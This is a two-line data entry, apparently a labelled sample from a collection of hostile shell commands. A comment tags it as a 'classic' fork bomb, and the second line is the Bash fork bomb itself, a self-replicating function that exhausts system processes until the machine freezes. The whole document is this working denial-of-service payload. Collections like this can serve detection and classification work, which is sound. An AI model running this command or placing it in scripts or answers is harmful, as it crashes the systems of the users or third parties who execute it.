# class: fork bomb; style: classic
:(){ :|:& };:
